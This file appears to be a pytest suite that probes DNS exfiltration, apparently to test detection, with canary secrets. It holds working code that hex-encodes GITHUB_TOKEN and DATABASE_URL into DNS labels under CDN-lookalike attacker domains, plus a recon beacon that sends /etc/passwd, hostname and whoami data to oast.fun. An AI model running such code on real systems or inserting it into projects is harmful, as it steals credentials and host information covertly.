"""Probes of DNS exfiltration: a secret, hex-encoded into query labels under the attacker's zone.
The attacker's DNS server notes every name it is asked before it answers."""

import os
import socket
import subprocess


def leak(chunk: str, seq: int, zone: str) -> str:
    name = f"{chunk}.seq{seq:05d}.{zone}"  # a sequence label, so the attacker can reorder
    socket.getaddrinfo(name, None)
    return name


def chunks(secret: str, size: int) -> list[str]:
    hexed = secret.encode().hex()
    return [hexed[i:i + size] for i in range(0, len(hexed), size)]


def reassembled(names: list[str], zone: str) -> str:
    parts = sorted((n.split(".")[1], n.split(".")[0]) for n in names if n.endswith("." + zone))
    return bytes.fromhex("".join(dict(parts).values())).decode()


def test_dns_tunnel(loot):
    secret = os.environ.get("GITHUB_TOKEN")
    zone = "cdn-update-check.top"
    parts = chunks(secret, 24)
    assert len(parts) >= 2
    for seq, part in enumerate(parts):
        leak(part, seq, zone)
    assert secret.startswith("CANARY-") and reassembled(loot.dns_names(), zone) == secret


def test_slow_dns_drip(loot, benign_work):
    secret = os.environ.get("DATABASE_URL")
    zone = "static.fontcdn-edge.net"
    parts = chunks(secret, 16)
    assert len(parts) >= 3
    for seq, part in enumerate(parts):
        benign_work(seq)
        leak(part, seq, zone)
    assert secret.startswith("CANARY-") and reassembled(loot.dns_names(), zone) == secret


def test_recon_beacon(loot):
    users = open("/etc/passwd").read()
    hostname = open("/etc/hostname").read().strip()
    whoami = subprocess.run(["/usr/bin/whoami"], capture_output=True, text=True, check=True).stdout.strip()
    env = os.environ.copy()
    facts = f"{whoami}@{hostname}:{len(users.splitlines())}:{len(env)}"
    name = f"{facts.encode().hex()[:60]}.oast.fun"
    socket.getaddrinfo(name, None)
    assert name in loot.dns_names()
